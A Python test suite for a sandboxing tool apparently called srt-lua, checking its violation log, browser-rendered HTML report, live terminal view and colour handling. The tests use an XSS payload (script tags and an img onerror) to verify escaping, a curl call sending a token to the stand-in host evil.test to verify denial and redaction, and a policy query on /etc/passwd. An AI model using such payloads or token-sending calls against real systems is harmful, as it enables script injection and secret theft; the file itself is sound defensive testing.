# SPDX-License-Identifier: Apache-2.0
"""What was decided, to look at: the log of a run, its web page in a browser, the live view, and manners on a terminal."""
import json
import os
import re
import shutil
import signal
import subprocess
import termios
import time

from lib import BINARY, as_everyone, main, need
from running import Running, until
from server import ADDRESS, Origin
from terminal import Terminal

HOSTILE = "</script><script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"


class View(Running):
    def shown(self, *argv, env=None, **size):
        return self.terminal(Terminal, {"TERM": "xterm", **(env or {})}, argv=argv, **size)

    def held(self):
        return os.path.join(self.home, ".local/state/srt-lua/violations")


class Log(View):
    @as_everyone
    def test_a_log_and_its_page_in_a_browser(self):
        need("curl")
        need("chromium-headless-shell")
        log = os.path.join(self.w, "log.jsonl")
        with Origin() as origin:
            got = self.run_sh("curl -s %s/good?token=geheim; curl -s http://evil.test/a?token=geheim; echo x >>%s; "
                              "curl -s %s/no" % (origin.url, log, origin.url),
                              """{ observe = "none", filesystem = { allowWrite = { "." } }, network = {
                                   allowedDomains = { "%s:%d" }, filterRequest = function(req)
                                     return req.path ~= "/no", "not this" end } }""" % (ADDRESS, origin.port),
                              options=("--log", log, "--command-text", HOSTILE))
            place = "%s:%d" % (ADDRESS, origin.port)
        with open(log, encoding="utf-8") as file:
            lines = [json.loads(line) for line in file]
        self.assertEqual([("allow", "request", "GET http://%s/good?…" % place), ("deny", "connect", "evil.test:80"),
                          ("deny", "request", "GET http://%s/no" % place)],
                         [(v["decision"], v["kind"], v["target"]) for v in lines], got)
        self.assertEqual({(HOSTILE, lines[0]["run"])}, {(v["command"], v["run"]) for v in lines})
        self.assertNotIn("geheim", repr([v["target"] for v in lines]))
        self.assertEqual(0o600, os.stat(log).st_mode & 0o777)
        with open(log, "a", encoding="utf-8") as file:
            file.write("cut by a full di\n")
            for i in range(3000):
                file.write(json.dumps({"kind": "request", "target": "GET https://h%d.test/%s" % (i % 25, HOSTILE),
                                       "decision": "allow" if i % 3 else "deny", "rule": HOSTILE, "command": "evil",
                                       "time": "2026-11-30T11:%02d:00.000Z" % (i % 60)}) + "\n")
        page = os.path.join(self.w, "page.html")
        got = self.run_srt(["report", log, "-o", page])
        self.assertEqual((0, "", "srt-lua: report: 1 line is no event and is left out.\n"), (got.code, got.out, got.err))
        self.assertEqual(1, self.run_srt(["report", log, "-o", page]).code)
        self.assertEqual(0o600, os.stat(page).st_mode & 0o777)
        text = self.browsed("file://" + page + "#evil")
        self.assertIn("<title>srt-lua report</title>", text)
        self.assertNotRegex(text, "<img|<script>")
        self.assertIn("1001 denied, 2000 allowed", text)
        self.assertIn("1 line is no event and is left out.", text)
        self.assertIn("show more (500 of 3001)", text)
        self.assertEqual(500, len(re.findall('<tr class="(?:deny|allow)">', text)))
        hosts, rules = (re.search('<table id="%s">(.*?)</table>' % name, text, re.S).group(1) for name in ("hosts", "rules"))
        self.assertIn("<td>evil.test:80</td><td class=\"n\">1</td><td class=\"n\">0</td>", hosts)
        self.assertIn("&lt;/script&gt;", rules)
        self.assertIn("<td>network.allowedDomains</td><td class=\"n\">1</td>", rules)
        self.assertEqual(80, len(re.findall('<div title="[^"]*: [0-9]+ denied, [0-9]+ allowed">', text)))

    def browsed(self, url):
        """What a browser has made of a page."""
        profile = os.path.join(self.tmp, "browser")
        done = self.on_host(["chromium-headless-shell", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                             "--user-data-dir=" + profile, "--dump-dom", "--virtual-time-budget=3000", url], timeout=120)
        shutil.rmtree(profile, ignore_errors=True)
        text = done.stdout.decode()
        self.assertIn('id="events"', text, done)
        return text

    @as_everyone
    def test_what_is_no_log(self):
        for name, text in (("none", None), ("text", "hello\nworld\n")):
            path = os.path.join(self.w, name)
            if text:
                self.write("w/" + name, text)
            got = self.run_srt(["report", path])
            self.assertEqual((1, ""), (got.code, got.out), got)
        self.assertEqual(125, self.run_srt(["report"]).code)


class Top(View):
    def begin(self):
        """A run that asks for what it is told to."""
        run = self.start(["sh", "-c", "while read h; do curl -s -o /dev/null http://$h/; done; ls %s" % self.held()],
                         """{ observe = "none", network = { allowedDomains = { "good.test:80" } } }""",
                         stdin=subprocess.PIPE, options=("--report", "none", "--command-text", "x"))
        until(lambda: self.run_srt(["top", "--once"]).out)
        return run

    @as_everyone
    def test_a_terminal(self):
        need("curl")
        run = self.begin()
        listed = self.run_srt(["top", "--once"]).out
        got = self.run_srt(["top", "nosuch"])
        self.assertEqual((1, ""), (got.code, got.out), got)
        self.assertIn("no run of yours is called nosuch", got.err)
        found = re.match(r"([0-9a-f]{8}) pid %d: srt-lua run " % run.pid, listed)
        self.assertTrue(found, listed)
        run.stdin.write(b"before.test\n")
        run.stdin.flush()
        top = self.shown(BINARY, "top", found.group(1)[:6], env={"NO_COLOR": "1"}, rows=12, cols=60)
        top.expect(re.escape("%s  %d" % (found.group(1), run.pid)))
        self.assertFalse(termios.tcgetattr(top.fd)[3] & termios.ICANON)
        # A run that has just looked whether somebody is there looks again after 0.25 s.
        time.sleep(0.3)
        run.stdin.write(b"evil.test\ngood.test\n")
        run.stdin.flush()
        top.expect("deny +connect +evil.test:80: add")
        top.expect("allow +request +GET http://good.test:80/")
        top.expect(r"\x1b\[J")
        top.resize(12, 200)
        top.expect('evil.test:80: add "evil.test:80" to network.allowedDomains')
        top.expect(r"\x1b\[J")
        # Where nothing changes nothing is drawn.
        time.sleep(1.2)
        while top.more(0):
            pass
        self.assertEqual(b"", top.unread)
        # Another one looks on as well, without a terminal.
        other = self.start(["top"])
        self.assertIn(b"pid", other.stdout.readline())
        top.send("q")
        self.assertEqual(0, top.ended())
        self.assertTrue(top.seen.endswith(b"\x1b[?7h\x1b[?25h\x1b[?1049l"), top.seen[-100:])
        self.assertNotRegex(top.seen, rb"\x1b\[[0-9;]*m")
        run.stdin.write(b"more.test\n")
        run.stdin.flush()
        line = b""
        while b"more.test" not in line:
            line = other.stdout.readline()
            self.assertTrue(line)
        self.assertRegex(line, rb"^\d\d:\d\d:\d\d %s deny   connect  more.test:80: " % found.group(1).encode())
        other.terminate()
        other.communicate()
        # The run notices that nobody looks any more; inside, nothing of it can be seen.
        time.sleep(0.3)
        out, err = run.communicate(b"last.test\n")
        self.assertEqual((b"", ["violations.jsonl"]), (out, os.listdir(self.held())), err)
        self.assertIn(b"Permission denied", err)

    @as_everyone
    def test_how_it_ends(self):
        for how in ("\3", signal.SIGTERM):
            top = self.shown(BINARY, "top")
            top.expect(r"(?s)q quits.*COMMAND.*\x1b\[J")
            if how == "\3":
                top.send(how)
            else:
                os.kill(top.pid, how)
            top.expect(r"\x1b\[\?1049l")
            until(lambda terminal=top: termios.tcgetattr(terminal.fd)[3] & termios.ICANON)
            self.assertTrue(termios.tcgetattr(top.fd)[3] & (termios.ICANON | termios.ECHO))
            self.assertEqual(0, top.ended())
            self.assertEqual([], [name for name in os.listdir(self.held()) if "l" in name[:4]])


class Manners(View):
    @as_everyone
    def test_colours_only_where_they_are_wanted(self):
        policy = self.write("policy.lua", 'return { observe = "none", network = { allowedDomains = { "a.test" } } }')
        wrong = self.write("wrong.lua", "return { nonsense = 1, network = 7 }")
        commands = re.findall(r"^  srt-lua (\w+)", self.run_srt(["--help"]).out, re.M)
        self.assertGreaterEqual(len(commands), 12)
        calls = {"run": ["run", policy, "--", "curl", "-s", "http://evil.test"], "check": ["check", policy, wrong],
                 "explain": ["explain", policy, "read", "/etc/passwd"], "compile": ["compile", policy],
                 "convert": ["convert", self.write("s.json", '{"network":{"allowedDomains":[],"deniedDomains":[]},'
                                                             '"filesystem":{"denyRead":[],"allowWrite":[],"denyWrite":[]}}')],
                 "violations": ["violations"], "doctor": ["doctor"], "top": ["top", "--once"],
                 "report": ["report", wrong], "proxy": ["proxy", wrong], "learn": ["learn", "--", "true"]}
        script = "; ".join(" ".join([BINARY, *calls.get(name, [name, "--help"])]) + " </dev/null; %s %s --no-such-option" % (
            BINARY, name) for name in ["run", *commands])
        for env, coloured in (({"NO_COLOR": "1"}, False), ({}, True)):
            terminal = self.shown("sh", "-c", script, env=env)
            terminal.ended()
            self.assertEqual(coloured, b"\x1b[" in terminal.seen, terminal.seen[-3000:])
            self.assertIn(b"unknown option --no-such-option", terminal.seen)
        done = self.on_host(["sh", "-c", script], {"TERM": "xterm"})
        self.assertNotIn(b"\x1b", done.stdout + done.stderr)
        self.assertIn(b"denied: one attempt", done.stderr)

    @as_everyone
    def test_long_work_is_told_and_the_line_erased(self):
        """A stopped process works as long as we like."""
        policy = self.write("policy.lua", """srt.log.info("loading")
            local n = 0
            for i = 1, 12000000 do n = n + 1 end
            return {}""")
        for term, told in (("xterm", True), ("dumb", False)):
            for _ in range(5):
                terminal = self.shown(BINARY, "check", policy, env={"TERM": term})
                terminal.expect("loading")
                os.kill(terminal.pid, signal.SIGSTOP)
                time.sleep(1.1)
                os.kill(terminal.pid, signal.SIGCONT)
                self.assertEqual(0, terminal.ended(), terminal.seen)
                if not told or b"looking for" in terminal.seen:
                    break
            line = rb"srt-lua: looking for what the policy's patterns and protected names match \xe2\x80\xa6\r\x1b\[K"
            (self.assertRegex if told else self.assertNotRegex)(terminal.seen, line)


if __name__ == "__main__":
    main()
